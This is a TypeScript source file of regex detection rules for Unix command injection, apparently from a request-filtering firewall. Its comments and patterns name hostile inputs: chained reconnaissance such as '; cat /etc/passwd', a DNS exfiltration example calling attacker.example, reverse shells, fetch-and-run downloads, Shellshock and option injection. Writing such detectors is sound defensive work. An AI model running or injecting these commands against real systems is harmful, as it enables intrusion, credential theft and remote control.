import { DEEPLY_DECODED, type RuleSource, VALUES_AND_HEADERS } from '../../rule.ts';
import {
  ANY_COMMAND,
  BROKEN_OUT,
  COMMAND,
  command,
  NAMED,
  QUOTED_COMMAND,
  RECONNAISSANCE_COMMAND,
  REMOTE,
  UNKNOWN,
} from './programs.ts';

/** Files that attackers read first. */
const SENSITIVE = String.raw`(?:/etc/(?:passwd|shadow|group|hosts|sudoers|issue|crontab|\*-release|os-release|ssh/|nginx|apache2?|httpd|mysql)|/proc/(?:self|version|1/|net|cpuinfo)|/root/|/home/\w+/\.|~/\.(?:ssh|bash|aws|kube|docker)|\.ssh/|id_rsa|\.env\b|wp-config|config\.php|boot\.ini|win\.ini|/flag\b|flag\.txt|/var/(?:log|www)/|[a-z]:\\+(?:windows|winnt|boot))`;

/** Programs that show a file. */
const READER = String.raw`(?:/bin/|/usr/bin/)?(?:cat|tac|nl|head|tail|less|more|strings|base64|base32|xxd|od|hexdump|grep\s+\S+|sort|cut|rev|paste|dd\s+if=|cp|type|curl|wget)`;

const INTERPRETER = String.raw`(?:python[\d.]*|perl|ruby|php\d?|node|lua|pwsh)`;

export const UNIX: readonly RuleSource[] = [
  command({
    id: 'cmdi-leading-separator',
    name: 'Command injection: the value breaks out with a separator of the shell and runs a program',
    confidence: 'high',
    about:
      'The value begins with a quote, bracket or number at most, then `;`, `|` or `&` and a program with an argument that prose has not. Shell commands in tutorials begin with a program; a text that begins with a separator is none.',
    regex: String.raw`^\s*[^a-z;|&\n]*(?:(?:[;|&]\s*)+${BROKEN_OUT}|(?:;|&&?|\|\|)\s*${NAMED})`,
    alsoDecoded: [DEEPLY_DECODED],
  }),
  command({
    id: 'cmdi-leading-word',
    name: 'Command injection: the value begins with a separator and a word that may be a command',
    confidence: 'medium',
    about:
      'The same for programs that no list has: a word alone, or with an argument as commands have it. Lists that are cut in pieces may begin so too: only reported.',
    regex: String.raw`^[\s'"\x60)\]]*(?:;|&&|\|\|)\s*${UNKNOWN}`,
  }),
  command({
    id: 'cmdi-after-value',
    name: 'Command injection: a program after one word and a separator of the shell',
    confidence: 'high',
    about:
      'What the application expects, such as a host or a file name, then a separator and a program: `127.0.0.1; cat /etc/passwd`. Command lines of tutorials have more than one word before the first separator.',
    regex: String.raw`^[^\s;|&?<>{}]+[\s'")]*(?:(?:[;|]+|&)\s*(?:${COMMAND}|${RECONNAISSANCE_COMMAND}|/(?:usr/)?s?bin/\w)|&&\s*(?:${RECONNAISSANCE_COMMAND}|${REMOTE}))|^[^\s;|&?<>{}]*(?:[\d)'"]|\.\w+)\s*(?:[;|&]\s*)+${ANY_COMMAND}`,
  }),
  command({
    id: 'cmdi-listed-after-value',
    name: 'Command injection: a short command after a word and a separator',
    confidence: 'medium',
    about:
      '`x;id`, `x|ls`: lists of field names are written with the same separators, and `id` is one, so that this is only reported.',
    regex: String.raw`^[\w./*-]+\s*(?:;|\||&)+\s*(?:id|ls|pwd|dir|env|ps)(?:[;|&#\s]|\\[rn])*$`,
  }),
  command({
    id: 'cmdi-separator-probe',
    name: 'Command injection: nothing but a separator of the shell',
    confidence: 'medium',
    about:
      'Scanners send a separator alone to see what happens. A single one may be what someone splits tables by, and is left alone.',
    regex: String.raw`^\s*(?:\|\||&&|;;|\x60|[;|&][ \t]+)\s*$`,
  }),
  command({
    id: 'cmdi-newline',
    name: 'Command injection: a line break and a program',
    confidence: 'high',
    about:
      'A line break ends a command as `;` does: one word, then a line that is a command. Prose goes on with a sentence, and code has more in its first line.',
    regex: String.raw`^[\w.'")$@-]*(?:[\r\n]+\s*)+(?:${ANY_COMMAND})[^\n]*\s*['"]?\s*$|^[\w.'")$@-]*(?:\\[rn])+\s*${ANY_COMMAND}`,
    alsoDecoded: [DEEPLY_DECODED],
  }),
  command({
    id: 'cmdi-chained-reconnaissance',
    name: 'Command injection: a program that tells of the machine after a separator, anywhere',
    confidence: 'high',
    about:
      'After whatever text: `; whoami`, `| uname -a;`, `&& cat /etc/passwd`. Tutorials show these commands alone or at the beginning of a line.',
    regex: String.raw`[;|&]\s*(?:/?(?:usr/)?bin/)?(?:(?:whoami|ifconfig|ipconfig|systeminfo)\s*(?:$|[;&|#]|/all)|id\s*(?:;|$)|uname\s+-a\s*(?:$|[;&|#])|(?:cat|tac|nl|head|tail|less|more|type)\s+${SENSITIVE}|(?:sleep|timeout)\s+(?:/t\s+)?\d+\s*(?:$|[&|#'"\x60]))|\$\(\s*(?:(?:whoami|id)\s*\)\s*['"]?\s*$|(?:cat|tac|nl|head|tail)\s+${SENSITIVE})`,
  }),
  command({
    id: 'cmdi-chained-command',
    name: 'Command injection: a program after the first separator of the shell',
    confidence: 'medium',
    about:
      'Words, then a separator and a program with an argument. Command lines that people show each other look the same, so that this is only reported.',
    regex: String.raw`^[^\n;|&<>]*(?:[;|&]\s*)+\x60?${COMMAND}`,
  }),
  command({
    id: 'cmdi-substitution',
    name: 'Command injection: the value begins with a substituted command',
    confidence: 'high',
    about:
      '`$(…)`, backticks or `<(…)` around a program, after one word at most. jQuery has no program in its brackets, and documentation has words before them.',
    regex: String.raw`^\S*(?:\$\(|[<>]\()\s*\x60?(?:${COMMAND}|${RECONNAISSANCE_COMMAND}|(?:id|ls|pwd|dir)\x60?\)\s*(?:$|[\s'";|&\x60])|(?:echo|printf|expr)\s+\S[^)]*\))`,
    alsoDecoded: [DEEPLY_DECODED],
  }),
  command({
    id: 'cmdi-backticks',
    name: 'Command injection: the value is a command in backticks',
    confidence: 'high',
    about:
      'After a separator, a quote or one word, and up to the end. Inline code of Markdown stands between words.',
    regex: String.raw`^[^\s\x60]*(?:['";|&)]\s*)*${QUOTED_COMMAND}\S*\s*(?:[#;|&].*)?$|[;|&]\s*${QUOTED_COMMAND}\s*['"#;&|]*\s*$`,
  }),
  command({
    id: 'cmdi-substitution-in-address',
    name: 'Command injection: the output of a command as part of an address',
    confidence: 'high',
    inputs: VALUES_AND_HEADERS,
    about:
      'A name that is looked up or an address that is fetched takes the output out: `nslookup $(whoami).attacker.example`.',
    regex: String.raw`(?:\b(?:nslookup|dig|host|ping|curl|wget|fetch)\b[^\n]*|https?://[^\s/]*)(?:\$\(|\x60)\s*(?:whoami|id|hostname|uname|pwd|cat|ls|env|head|base64|printenv)\b[^)\x60\n]*[)\x60]\.\w|https?://\S*[/=?](?:\$\(|\\?\x60)\s*(?:whoami|id|cat|ls|env)\b[^)\x60\n]*[)\x60]`,
  }),
  command({
    id: 'cmdi-reverse-shell',
    name: 'Command injection: a shell that calls back',
    confidence: 'high',
    inputs: VALUES_AND_HEADERS,
    about:
      "A shell whose input and output are a connection, in the spellings of Bash's `/dev/tcp`, netcat, socat, named pipes and the script languages.",
    regex: String.raw`/dev/(?:tcp|udp)/[\w.$]|\bn(?:et)?c(?:at)?(?:\.\w+)?\s+(?:-\w+\s+|[\w.:-]+\s+){0,4}-\w*[ec]\w*\s+\S*(?:sh|cmd)\b|\b(?:ba|z)?sh\s+-i\s*(?:[<>&]|\d[<>]|\|)|\bmkfifo\s+\S+\s*[;&|]|\bmknod\s+\S+\s+p\b\s*[;&|]|\b${INTERPRETER}\s+-\w*[cer]\w*\s+['"]?.*(?:socket|fsockopen|net\.connect|tcpsocket|tcpserver|child_process|pty\.spawn)|\bsocat\b.*\b(?:exec|system):|\btelnet\s+\S+\s+\d+\s*\|\s*(?:/bin/)?(?:ba)?sh|\bopenssl\s+s_client\b.*\|\s*(?:/bin/)?(?:ba)?sh|\|\s*(?:/bin/)?(?:ba)?sh\s*\|\s*(?:nc|telnet|openssl)\b|0<&(?:196|\d+-?;)|\bnc\s+\S+\s+\d+\s*\|\s*(?:/bin/)?(?:ba)?sh|\bsocket\b.*\bos\.dup2\b|\bexec\s+\d+<>\s*/dev/|\bpty\.spawn\s*\(\s*["'](?:/bin/)?(?:ba)?sh|\buse\s+socket;.*\bexec\b|\bxterm\s+-display\s+\S+:\d|/inet/(?:tcp|udp)/|\bnet\.dial\s*\(.*\bexec\.command\s*\(|:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}`,
  }),
  command({
    id: 'cmdi-fetch-and-run',
    name: 'Command injection: a program is fetched from a bare address and run',
    confidence: 'high',
    inputs: VALUES_AND_HEADERS,
    about:
      'What installs itself on servers is fetched from an IP address, made executable and started. Instructions for installing have a host name and end in `| sh`.',
    regex: String.raw`\b(?:wget|curl|fetch|lwp-download|tftp|ftpget|lynx)\b[^|;&\n]*\b\d{1,3}(?:\.\d{1,3}){3}\b[^|;&\n]*(?:\|\s*(?:sudo\s+)?(?:(?:ba|z|da|k|a)?sh|python\d?|perl|php)\b|(?:;|&&?|\|\|)\s*(?:chmod\b|(?:ba|da|z)?sh\s|\./))|\bcd\s+/(?:tmp|var|dev/shm)\S*\s*(?:;|&&|\|\|).*\b(?:wget|curl|tftp|ftpget)\b|\bchmod\s+(?:\+x|0?777|u\+x)\s+/?(?:tmp|dev/shm)?[\w./-]+\s*(?:;|&&)\s*(?:\./|/tmp/|sh\s)`,
  }),
  command({
    id: 'cmdi-download-and-run',
    name: 'Command injection: a download that is run',
    confidence: 'medium',
    inputs: VALUES_AND_HEADERS,
    about: 'Instructions for installing software say the same, so that this is only reported.',
    regex: String.raw`\b(?:wget|curl|fetch|lwp-download)\b[^|;&\n]+(?:\|\s*(?:sudo\s+)?(?:ba|z|da|k|a)?sh\b|(?:;|&&?)\s*(?:chmod\s+\S+|(?:ba|da|z)?sh\s+\S|\./\S))`,
  }),
  command({
    id: 'cmdi-sensitive-file-read',
    name: 'Command injection: the value is a command that reads a sensitive file',
    confidence: 'high',
    about:
      'The value begins with a program that shows files, or with a separator and one, and goes on with a file that attackers read first. Text about such commands begins with other words.',
    regex: String.raw`^[^a-z]*${READER}['"\\]*(?:\s*<\s*|\s+)(?:-\S+\s+(?:\d+\s+)?)*(?:file://)?['"]?${SENSITIVE}`,
  }),
  command({
    id: 'cmdi-command-line',
    name: 'Command injection: the value is a command line',
    confidence: 'medium',
    about:
      'Nothing but a program and its arguments, as remote shells and parameters that are run take them. Someone may also search for one, so that this is only reported.',
    regex: String.raw`^[\s'"]*(?:(?:(?:whoami|uname|ifconfig|ipconfig|netstat|systeminfo|sysinfo|tasklist|printenv|lsb_release|pwd|ls|dir)(?:\.exe)?|which\s+(?:curl|wget|gcc|nc|netcat|ncat|perl|python\d?|ruby|php|bash|socat|nmap))\s*[;|&]*\s*$|(?:sleep|timeout(?:\s+/t)?)\s+\d{1,3}\s*$|(?:(?:ls|dir|cat|tac|wget|curl|ping|nslookup|nc|netcat|ncat|socat|telnet|uname|netstat|ps|df|lsof|find|grep|chmod|chown|rm|cp|mv|ba?sh|sh|python\d?|perl|ruby|php|node|awk|base64|xxd|ifconfig|ipconfig|type|del)(?:\.exe)?\s+(?:-{1,2}\w|/\w|/\s*$|[a-z]:\\|%\w+%|https?://|\d{1,3}(?:\.\d{1,3}){3})|net1?\s+(?:user|view|localgroup|group|share|use)\b|netsh\s+\w+\s+\w+\s+\w|reg\s+(?:add|query|save|delete)\s+["']?hk)[^\n]*$|route\s+print\s*$|/(?:usr/)?s?bin/\w+(?:\s+[-/.].*)?$|rm\s+-rf\s+[/~*])`,
  }),
  command({
    id: 'cmdi-command-parameter',
    name: 'Command injection: a parameter of web shells that carries a command',
    confidence: 'high',
    inputs: ['cmd', 'exec', 'shell', 'command'].map((name) => ({
      address: 'server.request.query',
      key_path: [name],
    })),
    about: '`?cmd=id` in the address is how web shells and exploits of run-anything pages are called.',
    regex: String.raw`^[\s'"]*(?:${RECONNAISSANCE_COMMAND}|(?:ls|id|pwd|dir|env|ps)\s*$|${COMMAND})`,
  }),
  command({
    id: 'cmdi-interpreter-code',
    name: 'Command injection: an interpreter that is handed code',
    confidence: 'medium',
    about:
      'After a separator or at the beginning: `perl -e`, `python -c`, `php -r` with code in quotes. Documentation of these languages has such lines too, so that this is only reported.',
    regex: String.raw`(?:^[^a-z]*|[;|&\x60(]\s*)(?:/usr/bin/)?${INTERPRETER}\s+(?:-\w+\s+)*-[cer]\s*['"]|(?:^[^a-z]*|[;|&\x60(]\s*)[gm]?awk\s+['"]\s*begin\s*\{\s*system|\bfind\s+\S+\s.*-exec\s+(?:/bin/)?(?:ba)?sh\b`,
  }),
  command({
    id: 'cmdi-shellshock',
    name: 'Command injection: Shellshock',
    confidence: 'high',
    inputs: VALUES_AND_HEADERS,
    about:
      'A function definition as the value of an environment variable, with a command after it. Functions in code have a name before their brackets or a body of more than a word.',
    regex: String.raw`^[\s'"]*\(\s*\)\s*\{[^}]*\}\s*[;>_]|(?:^|[^\w\s)>\]])\s*\(\)\s*\{\s*(?:[:_]|\w+\s*:)?\s*;\s*\}\s*;`,
  }),
  command({
    id: 'cmdi-option-injection',
    name: 'Command injection: an option that makes a program run another',
    confidence: 'high',
    about:
      'No separator is needed where a value becomes an argument of git, tar, ssh, curl, zip or psql: some of their options name a program to run. The value begins with the option, and what it runs follows.',
    regex: String.raw`^[\s'"]*(?:-{1,2}(?:o\s*)?(?:proxycommand|localcommand|permitlocalcommand|knownhostscommand)=|--(?:upload-pack|receive-pack|exec|use-compress-program|checkpoint-action|open-files-in-pager|to-command|info-script|rsh-command|use-askpass|unzip-command|rsh|pre-invoke|compress-program|split|editor|ext-diff|config=core)=\s*\S*[\s;|$\x60/]?|--checkpoint=\d|-oq\w+=|-e\s*['"]?(?:ba)?sh\b|-x/\S+\.php|-c\s*core\.\w+=|-tt\s)|--checkpoint-action=exec|-o\s*proxycommand=\s*\S|--use-compress-program=\s*['"]?\S+\s|--(?:upload|receive)-pack=\s*['"]?[^\s'"]*[;$\x60|(]|--use-askpass=/|--post-file=\s*/|\bext::sh\s`,
  }),
];
